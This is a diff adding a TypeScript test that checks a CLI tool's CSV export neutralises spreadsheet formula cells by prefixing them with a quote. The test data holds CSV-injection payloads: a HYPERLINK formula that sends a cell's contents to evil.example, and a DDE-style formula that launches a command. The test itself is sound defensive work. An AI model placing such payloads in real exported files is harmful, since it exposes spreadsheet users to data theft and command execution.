@@ -144,6 +144,28 @@ describe('gatehouse judge run', () => {
     }
   });
 
+  it('writes a .csv --out with formula cells neutralised, or as they are with --csv-raw', async () => {
+    const formulas = join(dir, 'formulas.jsonl');
+    const states = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+9)*cmd|' /C calc'!A0", '-2+3'];
+    writeFileSync(
+      formulas,
+      states.map((state) => JSON.stringify({ state, offers_refund: false })).join('\n'),
+    );
+    const stateColumn = async (extra: string[]) => {
+      const out = join(dir, `formulas-${extra.length}.csv`);
+      const t = io();
+      const code = await judgeRun(
+        ['--set', SET, '--cases', formulas, '--sandbox', '--out', out, ...extra],
+        t.io,
+      );
+      expect(code, t.err.join('\n')).toBe(EXIT.ok);
+      const [header, ...records] = parseCsv(readFileSync(out, 'utf8')).map((r) => r.fields);
+      return records.map((r) => r[header.indexOf('state')]);
+    };
+    expect(await stateColumn([])).toEqual(states.map((s) => `'${s}`));
+    expect(await stateColumn(['--csv-raw'])).toEqual(states);
+  });
+
   it('exits 2 with the rule when the command cannot run', async () => {
     const missing = io();
     expect(await judgeRun(['--cases', CASES, '--sandbox'], missing.io)).toBe(EXIT.failed);
